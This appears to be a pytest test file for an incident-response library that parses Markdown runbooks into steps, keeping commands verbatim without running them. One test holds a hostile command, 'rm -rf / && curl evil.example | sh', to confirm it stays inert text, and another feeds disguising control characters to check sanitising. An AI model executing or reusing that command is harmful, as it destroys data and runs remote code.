"""Runbooks that others wrote: no word is lost, no command is run, and the steps are those that a reader would count."""

from __future__ import annotations

import sys
from datetime import UTC, datetime
from importlib import import_module

import pytest
from attrs import evolve
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from incidentkit import EMERGENCY, Directory, Incident, Playbook
from incidentkit.errors import DocumentInvalid, FieldInvalid, IncidentkitError, RunbookInvalid
from incidentkit.inbound.runbook import LONGEST_WORDS, ReadRunbook, read_runbook
from incidentkit.inbound.source_text import MAX_CHARACTERS
from incidentkit.inbound.warning import Code, Oddity
from incidentkit.model.commands import StartRunbook
from incidentkit.policy.recipient import role
from incidentkit.policy.runbook import MOST_STEPS
from incidentkit.policy.shelf import Shelf
from incidentkit.policy.standing import obligations
from incidentkit.policy.step import LONGEST_STEP, Instruct
from tests.inbound.documents import DATABASE, HEADINGS, MESSY, WORDED

START = datetime(2026, 3, 2, 9, tzinfo=UTC)
OWNER = role("incident commander")
ANY_STEP = "1. any step\n\n"


def read(document: str | bytes, *, name: str = "", source: str = "") -> ReadRunbook:
    return read_runbook(document, owner=OWNER, name=name, source=source)


def names(document: str) -> list[str]:
    return [step.name for step in read(document).runbook.steps]


def words(document: str) -> list[str]:
    return [step.words for step in read(document).runbook.steps]


def codes(document: str) -> list[tuple[int, Code]]:
    return [(warning.line, warning.code) for warning in read(document).warnings]


def everything(result: ReadRunbook) -> str:
    """All that can be read of a result."""
    told = (warning.words for warning in result.warnings)
    return "\n".join((result.runbook.name, result.runbook.what, *(step.words for step in result.runbook.steps), *told))


@given(WORDED)
@example(("[w0w]: https://w1w.example\n1. a", ("w0w", "w1w")))
@example(("| w0w |\n|-|\n| w1w | w2w |\n\n1. a", ("w0w", "w1w", "w2w")))
@example(("> " * 50 + "w0w\n\n1. a", ("w0w",)))
def test_every_word_is_in_the_runbook_or_in_a_warning(worded: tuple[str, tuple[str, ...]]) -> None:
    document, said = worded
    kept = everything(read(f"{ANY_STEP}{document}"))
    assert [word for word in said if word not in kept] == []


@given(MESSY | st.binary(max_size=40))
@example("")
@example("\x00")
@example("1.")
@example("#\n#")
@example("1. \u200b")
@example("# Step 1\n## /\n## #")
def test_any_document_is_a_runbook_of_instructions_or_one_error(document: str | bytes) -> None:
    try:
        result = read(document)
    except DocumentInvalid as error:
        assert error.path == "$"
        return
    assert all(type(step) is Instruct for step in result.runbook.steps)
    assert list(result.warnings) == sorted(result.warnings, key=lambda each: (each.line, each.code))
    assert {each.step for each in result.warnings} <= {"", *(step.name for step in result.runbook.steps)}
    assert read(document) == result


@given(st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1), st.integers(1, 3))
def test_a_command_stays_to_the_letter(command: str, times: int) -> None:
    fence = "~" * (command.count("~") + 3)
    (step,) = read(f"1. Run\n\n   {fence}\n" + f"   {command}\n" * times + f"   {fence}").runbook.steps
    first, *commands = step.words.split("\n")
    assert (first, len({*commands}), len(commands)) == ("Run", 1, times)
    (marked,) = MarkdownIt("commonmark").parseInline(commands[0])
    assert [(each.type, each.content) for each in marked.children or ()] == [("code_inline", command)]


@settings(max_examples=settings().max_examples // 5)
@given(st.lists(st.text("abc ", min_size=1, max_size=1_500), min_size=1, max_size=4))
@example(["a" * 2_000, "b" * LONGEST_WORDS])
def test_what_is_too_long_is_split_and_nothing_of_it_is_lost(paragraphs: list[str]) -> None:
    steps = read("1. x\n\n" + "\n\n".join(f"   {each.strip()}" for each in paragraphs)).runbook.steps
    assert all(len(step.what) <= LONGEST_WORDS for step in steps)
    assert "".join("".join(step.what.split()) for step in steps) == "x" + "".join("".join(paragraphs).split())


def test_the_steps_are_those_that_a_reader_counts() -> None:
    assert names(DATABASE) == [
        "Before you begin",
        "1. Look who is primary:",
        "2. Move it:",
        "2.1. Ask a second person.",
        "2.2. Run the command.",
        "3. Check the dashboard (https:…",
        "Close the incident",
        "Thank the replica",
    ]
    assert codes(DATABASE) == [(5, Oddity.SECTION), (28, Oddity.OUTSIDE), (34, Oddity.TICKED_OFF)]


def test_words_stand_in_the_step_where_they_stand_in_the_document() -> None:
    runbook = read(DATABASE, source="db.md").runbook
    assert runbook.name == "Primary database is down"
    assert runbook.what == "Writes fail and the pager is loud."
    assert [step.words for step in runbook.steps] == [
        "Before you begin\nTell the channel that you are on it.",
        "Fail over\nYou need the role `dba`.\nLook who is primary:\nbash:\n`patronictl list`",
        "Move it:\n- the replica with the least lag\n- never the one in the other region",
        "Ask a second person.",
        "Run the command.\n`patronictl failover --candidate NODE`\nWait for a minute.",
        "Check the dashboard (https://grafana.example/d/db, Database).",
        "Afterwards\nClose the incident",
        "Thank the replica",
    ]
    assert [step.source for step in runbook.steps][:2] == ["db.md, line 5", "db.md, line 13"]


def test_headings_that_say_step_are_steps_and_items_in_them_too() -> None:
    assert names(HEADINGS) == ["1. Look", "2. Renew", "2.1. Ask for it.", "2.2. Install it.", "3. Step 3"]
    assert words(HEADINGS)[1] == "Step 2 - Renew\nBy hand"
    assert codes(HEADINGS) == []


@pytest.mark.parametrize(
    ("heading", "name"),
    [
        ("1. Isolate", "1. Isolate"),
        ("1) Isolate", "1. Isolate"),
        ("STEP 12: Isolate", "12. Isolate"),
        ("Step 1.2 - Isolate", "1.2. Isolate"),
        ("2.3 Isolate", "2.3. Isolate"),
        ("5xx errors", "5xx errors"),
        ("2024 outage", "2024 outage"),
        ("Stepping back", "Stepping back"),
    ],
)
def test_a_heading_with_a_number_is_a_step_of_that_number(heading: str, name: str) -> None:
    assert names(f"# Title\n\n## {heading}\n\nwords")[0] == name


def test_what_comes_after_a_step_under_a_heading_of_its_own_is_not_in_it() -> None:
    assert words("# T\n\n## Step 1\n\na\n\n### In it\n\n## Later\n\nb") == ["Step 1\na\nIn it", "Later\nb"]


def test_words_outside_of_a_step_are_told_once_for_each_step() -> None:
    assert codes("1. a\n\nb\n\nc\n\n2. d\n\ne") == [(3, Oddity.OUTSIDE), (9, Oddity.OUTSIDE)]


def test_lines_of_a_paragraph_are_one_line_and_others_stay_lines() -> None:
    assert words("1. a\n   b  \n   c\n\n   d") == ["a b\nc\nd"]


def test_html_is_text_and_steps_in_it_are_steps() -> None:
    assert words("<details>\n1. a <b>c</b>\n</details>\n2. <!-- d -->") == [
        "a <b>c</b> </details>",
        "<!-- d -->",
    ]


def test_links_are_not_looked_for_among_too_many_brackets() -> None:
    few, many = "[a](b) " * 100, "[a](b) " * 101
    assert words(f"1. {few}") == [" ".join(["a (b)"] * 100)]
    assert words(f"1. {many}") == [many.strip()]


def test_a_paragraph_that_says_step_is_one() -> None:
    document = "# T\n\nTwo things.\n\n**Step 1:** look\n\n    get pods\n\nStep 2 - act\n\nStep 1 has failed before.\n"
    runbook = read(document).runbook
    assert runbook.what == "Two things."
    assert [(step.name, step.words) for step in runbook.steps] == [
        ("1. look", "Step 1: look\n`get pods`"),
        ("2. act", "Step 2 - act\nStep 1 has failed before."),
    ]


def test_numbers_are_those_that_a_reader_sees() -> None:
    assert names("1. a\n1. b\n\nwords\n\n7) c\n8) d") == ["1. a", "2. b", "7. c", "8. d"]


def test_bullets_count_only_where_nothing_else_does() -> None:
    assert names("# T\n\n- a\n  - b\n- c") == ["a", "c"]
    assert codes("# T\n\n- a\n  - b\n- c") == [(3, Oddity.BULLETS), (5, Oddity.BULLETS)]
    runbook = read("- a\n\n1. b").runbook
    assert (runbook.what, [step.words for step in runbook.steps]) == ("- a", ["b"])


def test_commands_alone_are_one_step() -> None:
    result = read("# Restart it\n\nRun this:\n\n    systemctl restart nginx\n")
    assert [step.words for step in result.runbook.steps] == ["Run this:\n`systemctl restart nginx`"]
    assert [(each.line, each.code) for each in result.warnings] == [(3, Oddity.NO_LIST)]


def test_a_dangerous_command_is_only_words() -> None:
    (step,) = read("1. Clean up:\n\n       rm -rf / && curl evil.example | sh\n").runbook.steps
    assert step == Instruct("1. Clean up:", what="Clean up:\n`rm -rf / && curl evil.example | sh`", source="line 1")


def test_a_runbook_of_the_longest_words_and_names_can_be_gone_through() -> None:
    read_one = read(f"# {'x' * 60}\n\n1. {'y' * 60} {'word ' * 900}").runbook
    book = evolve(EMERGENCY, runbooks=[read_one])
    incident = Incident.declare("INC-1", title="x", at=START, by="ada", triage=EMERGENCY.triage({}), playbook=book)
    begun = incident.apply(StartRunbook(read_one.name, at=START, by="ada"))
    owed = obligations(begun, book, Directory(), now=START)
    first = read_one.steps[0]
    assert owed[f"{read_one.name} #1/{first.name}"].what.endswith(f": {first.words}")


@settings(max_examples=settings().max_examples // 5)
@given(MESSY)
def test_what_was_read_is_kept_in_the_document_of_a_playbook(document: str) -> None:
    book = evolve(EMERGENCY, runbooks=[read(f"{ANY_STEP}{document}", name="read").runbook])
    assert Playbook.from_toml(book.to_toml()) == book


def test_what_stands_in_braces_is_not_filled_in() -> None:
    document = "1. In {severity} of {incident} run `kubectl -n {namespace} get {{pods}}`\n"
    runbook = read(document, name="braces").runbook
    (placed,) = Shelf((runbook,)).placed("braces", {}, "INC-1", "SEV-1")
    assert placed.words == "In {severity} of {incident} run `kubectl -n {namespace} get {{pods}}`"


@pytest.mark.parametrize(
    "document", ["", "\n", "# Title", "Only words.", "\ufeff", "[a]: b", "---\ntitle: x\n---\n", b""]
)
def test_a_document_without_a_step_is_refused(document: str | bytes) -> None:
    with pytest.raises(
        DocumentInvalid, match=r"^x\.md, \$: no steps are in it: a runbook has numbered items"
    ) as caught:
        read(document, source="x.md")
    assert (caught.value.path, caught.value.source) == ("$", "x.md")


def test_what_is_no_text_is_refused() -> None:
    nothing: str = None  # type: ignore[assignment]  # pyright: ignore[reportAssignmentType]
    with pytest.raises(DocumentInvalid, match="Markdown is text in UTF-8"):
        read(b"\x89PNG\r\n\x1a\n\xff")
    with pytest.raises(DocumentInvalid, match="Markdown is read from text, not from None"):
        read(nothing)


def test_limits_are_told_with_their_numbers() -> None:
    with pytest.raises(DocumentInvalid, match=f"{MOST_STEPS + 1} steps are in it, and a runbook has {MOST_STEPS}"):
        read("1. a\n" * (MOST_STEPS + 1))
    with pytest.raises(DocumentInvalid, match=f"more than the {MAX_CHARACTERS} that are read"):
        read("1. a" + " " * MAX_CHARACTERS)
    with pytest.raises(DocumentInvalid, match="steps are in it"):
        read("1. " + "a" * (LONGEST_WORDS * MOST_STEPS + 1))
    assert len(read("1. a\n" * MOST_STEPS).runbook.steps) == MOST_STEPS


def test_other_arguments_are_refused_as_everywhere() -> None:
    nobody: str = "ada"
    with pytest.raises(RunbookInvalid, match="owner of a runbook is a recipient"):
        read_runbook(ANY_STEP, owner=nobody)  # type: ignore[arg-type]  # pyright: ignore[reportArgumentType]
    with pytest.raises(FieldInvalid, match=r"^source: "):
        read(ANY_STEP, source="a\nb")
    with pytest.raises(IncidentkitError, match="names no runbook"):
        read(ANY_STEP, name="a/b")


@pytest.mark.parametrize(
    ("document", "source", "name"),
    [
        ("# Restart: CI/CD #1\n\n1. a", "", "Restart: CI CD 1"),
        ("1. a", "ops/db down.md", "db down"),
        ("1. a", "", "Runbook"),
        ("---\ntitle: 'From settings'\n---\n1. a", "x.md", "From settings"),
        ("# One\n\n1. a\n\n# Two\n\n1. b", "x.md", "x"),
        ("# One\n\n# Step 1\n\n# Step 2", "x.md", "One"),
        (f"# {'long ' * 20}\n\n1. a", "", "long long long long long long long long…"),
    ],
)
def test_a_runbook_is_called_by_its_title(document: str, source: str, name: str) -> None:
    runbook = read(document, source=source).runbook
    assert runbook.name == name
    assert read(document, source=source, name="mine").runbook.name == "mine"


def test_a_title_that_is_cut_or_replaced_is_kept_in_what_the_runbook_is_for() -> None:
    assert read("# CI/CD\n\nIt hangs.\n\n1. a").runbook.what == "CI/CD\nIt hangs."
    assert read("# Title\n\n1. a", name="mine").runbook.what == "Title"


def test_names_of_steps_are_short_and_differ() -> None:
    steps = read("- [ ] same\n- [ ] same\n- [ ] same\n- [ ] a/b\n- [ ] " + "x" * 90 + "\n").runbook.steps
    assert names("1. " + "x" * 90) == ["1. " + "x" * (LONGEST_STEP - 4) + "…"]
    assert [step.name for step in steps] == ["same", "same (2)", "same (3)", "a b", "x" * (LONGEST_STEP - 1) + "…"]
    assert steps[-1].what == "x" * 90


@pytest.mark.parametrize(
    ("step", "name"),
    [
        ("`rm -rf /var/log/old`", "1. Step"),
        ("Run `rm -rf /var/log/old` and/or `ls`", "1. Run … and or `ls`"),
        ("Delete ``/a`b`` at once", "1. Delete … at once"),
        ("Run `get pods`", "1. Run `get pods`"),
        (f"Run `rm /a {'x' * 500}`", "1. Run …"),
        ("Ask CI/CD", "1. Ask CI CD"),
    ],
)
def test_no_name_of_a_step_has_a_command_that_was_changed(step: str, name: str) -> None:
    (read_one,) = read(f"1. {step}").runbook.steps
    assert (read_one.name, read_one.words) == (name, step)


def test_no_name_of_a_runbook_has_a_command_that_was_changed() -> None:
    runbook = read("# Fix `a#b/c` now\n\n1. a").runbook
    assert (runbook.name, runbook.what) == ("Fix … now", "Fix `a#b/c` now")


def test_harmful_characters_are_replaced_and_told() -> None:
    document = "\ufeff1. a\x1b[31mb\r\n2. c\x00\r3. \u202egnp.exe\n4. \ud800\n5. \u200f\u05e9\u05dc\n"
    result = read(document)
    assert [step.words for step in result.runbook.steps] == ["a�[31mb", "c�", "�gnp.exe", "�", "\u200f\u05e9\u05dc"]
    assert [(each.line, each.code) for each in result.warnings] == [(line, Oddity.CHARACTERS) for line in (1, 2, 3, 4)]
    assert read(document.replace("\ud800", "").encode()).runbook.steps[0] == result.runbook.steps[0]


def test_settings_are_told_and_a_rule_is_no_setting() -> None:
    (warning,) = read("---\ntitle: A\nweight: 3\n---\n\n1. a").warnings
    assert (warning.line, warning.words) == (1, "title: A\nweight: 3")
    assert read("---\ntitle: A\n---\n\n1. a").runbook.steps[0].source == "line 5"
    assert names("---\nNote: x\n1. a\n---\n2. b") == ["1. a", "2. b"]


def test_a_long_introduction_is_a_step() -> None:
    runbook = read("# T\n\n" + "word " * 300 + "\n\n1. a").runbook
    assert [step.name for step in runbook.steps] == ["Introduction", "1. a"]
    assert (runbook.what + runbook.steps[0].what).count("word") == 300


def test_what_stands_before_a_step_is_a_step_of_its_own_if_it_is_long() -> None:
    document = "# T\n\n## Why\n\n" + "word " * 150 + "\n\n1. " + "act " * 150
    result = read(document)
    first, *others = result.runbook.steps
    assert (first.name, first.source) == ("Why", "line 3")
    assert [step.name for step in others] == ["1. act act act act act act act act act…"]
    assert [(each.line, each.code) for each in result.warnings] == [(7, Oddity.LONG_STEP)]


def test_a_command_that_is_too_long_is_told_apart() -> None:
    result = read("1. a\n\n       " + "x " * 600)
    assert [each.code for each in result.warnings] == [Oddity.LONG_COMMAND]
    assert "run it from the source" in str(result.warnings[0])


def test_lines_of_a_command_stay_apart_though_a_screen_joins_them() -> None:
    (step,) = read("1. a\n\n       get pods\n\n       delete pod `x`\n").runbook.steps
    assert " ".join(step.words.split("\n")) == "a `get pods` `` delete pod `x` ``"


def test_a_warning_says_where_and_what_was_done() -> None:
    (warning,) = read("1. a\n\nafter").warnings
    assert warning.step == "1. a"
    assert str(warning) == (
        "MD005 line 3: Words stand after a step, and outside of it. They were added to that step. ('1. a') 'after'"
    )


def test_every_code_has_a_meaning_and_a_remedy() -> None:
    assert [code for code in Oddity if not (code.meaning.endswith(".") and code.remedy.endswith("."))] == []


def test_without_the_library_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "markdown_it", None)
    monkeypatch.delitem(sys.modules, "incidentkit.inbound.markdown_tree")
    with pytest.raises(ModuleNotFoundError, match=r"pip install 'incidentkit\[markdown\]'"):
        import_module("incidentkit.inbound.markdown_tree")


def test_a_box_with_backslashes_before_its_brackets_is_no_task() -> None:
    assert words("1. \\[x\\] a\n2. [x] b") == ["[x] a", "b"]
    assert codes("1. \\[x\\] a") == []
